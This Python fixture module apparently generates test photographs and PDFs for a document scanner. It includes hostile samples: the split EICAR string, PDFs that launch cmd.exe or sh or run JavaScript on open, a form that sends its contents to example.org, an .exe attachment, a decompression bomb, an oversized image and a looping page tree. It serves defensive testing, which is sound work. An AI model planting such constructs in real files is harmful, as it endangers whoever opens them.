"""Papers as people send them, and as people who mean harm do. All of them are made here."""

import io
import zlib
from collections.abc import Callable

from PIL import Image, ImageDraw
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    BooleanObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

# The test of every scanner, in two halves so that this file is none.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
PLACE_AND_OWNER = {0x8825: {1: "N", 2: (41.0, 30.0, 0.0)}, 0x010F: "Somebody's telephone"}


def a_photograph(width: int = 1200, height: int = 900, kind: str = "JPEG") -> bytes:
    """Of a paper, with what telephones write about the place and the owner."""
    image = Image.new("RGB", (width, height), (70, 60, 50))
    drawing = ImageDraw.Draw(image)
    drawing.rectangle((width // 5, height // 8, 4 * width // 5, 7 * height // 8), fill="white")
    drawing.text((width // 3, height // 3), "Volante de padron", fill="black")
    exif = Image.Exif()
    exif[0x010F] = PLACE_AND_OWNER[0x010F]
    exif.get_ifd(0x8825).update(PLACE_AND_OWNER[0x8825])
    return saved(image, kind, exif=exif)


def saved(image: Image.Image, kind: str, **how: object) -> bytes:
    into = io.BytesIO()
    image.save(into, kind, **how)
    return into.getvalue()


def a_pdf(pages: int = 1, change: Callable[[PdfWriter], object] = lambda writer: None) -> bytes:
    """Pages with their number written on them as text."""
    writer = PdfWriter()
    for number in range(1, pages + 1):
        page = writer.add_blank_page(595, 842)
        put(writer, page, f"BT /F1 32 Tf 60 700 Td (Page number {number}) Tj ET".encode())
    change(writer)
    into = io.BytesIO()
    writer.write(into)
    return into.getvalue()


def put(writer: PdfWriter, page: DictionaryObject, drawing: bytes) -> None:
    content = DecodedStreamObject()
    content.set_data(drawing)
    page[NameObject("/Contents")] = writer._add_object(content)
    font = {"/Type": "/Font", "/Subtype": "/Type1", "/BaseFont": "/Helvetica"}
    fonts = named(**{"/F1": named(**font)})
    page[NameObject("/Resources")] = named(**{"/Font": fonts})


def named(**words: object) -> DictionaryObject:
    """A dictionary of PDF; words that begin with a stroke are names."""
    made = DictionaryObject()
    for name, value in words.items():
        plain = NameObject(value) if type(value) is str else value
        made[NameObject(name)] = plain
    return made


def root(writer: PdfWriter) -> DictionaryObject:
    return writer._root_object


def runs_a_script(writer: PdfWriter) -> None:
    action = named(**{"/S": "/JavaScript", "/JS": TextStringObject("app.alert(1)")})
    root(writer)[NameObject("/OpenAction")] = action


def starts_a_program(writer: PdfWriter) -> None:
    action = named(**{"/S": "/Launch", "/F": TextStringObject("cmd.exe")})
    root(writer)[NameObject("/OpenAction")] = action


def starts_a_program_from_a_link(writer: PdfWriter) -> None:
    action = named(**{"/Type": "/Action", "/S": "/Launch", "/F": TextStringObject("sh")})
    link = named(**{"/Type": "/Annot", "/Subtype": "/Link", "/A": writer._add_object(action)})
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])


def sends_what_is_written(writer: PdfWriter) -> None:
    action = named(**{"/S": "/SubmitForm", "/F": TextStringObject("//example.org")})
    writer.pages[0][NameObject("/AA")] = named(**{"/O": action})


def carries_a_program(writer: PdfWriter) -> None:
    writer.add_attachment("invoice.exe", b"MZ")


def is_a_form_of_one_program(writer: PdfWriter) -> None:
    root(writer)[NameObject("/NeedsRendering")] = BooleanObject(True)


def is_locked(writer: PdfWriter) -> None:
    writer.encrypt("a password")


def unpacks_to_much(writer: PdfWriter) -> None:
    """Half a gigabyte of drawing in three kilobytes, packed twice."""
    stream = StreamObject()
    packing, piece = zlib.compressobj(9), b"q Q " * (256 * 1024)
    packed = b"".join(packing.compress(piece) for _ in range(512)) + packing.flush()
    stream._data = zlib.compress(packed, 9)
    stream[NameObject("/Filter")] = ArrayObject([NameObject("/FlateDecode")] * 2)
    writer.pages[0][NameObject("/Contents")] = writer._add_object(stream)


def shows_a_huge_picture(writer: PdfWriter) -> None:
    stream = StreamObject()
    stream._data = zlib.compress(bytes(20_000 * 100), 9)
    wanted = {"/Type": "/XObject", "/Subtype": "/Image", "/ColorSpace": "/DeviceGray"}
    for name, value in {**wanted, "/Filter": "/FlateDecode"}.items():
        stream[NameObject(name)] = NameObject(value)
    for name, number in {"/Width": 20_000, "/Height": 20_000, "/BitsPerComponent": 8}.items():
        stream[NameObject(name)] = NumberObject(number)
    page = writer.pages[0]
    page[NameObject("/Resources")] = named(
        **{"/XObject": named(**{"/Big": writer._add_object(stream)})}
    )


def goes_round(writer: PdfWriter) -> None:
    """The tree of pages is its own child."""
    pages = root(writer)["/Pages"]
    pages[NameObject("/Kids")] = ArrayObject([pages.indirect_reference] * 40)
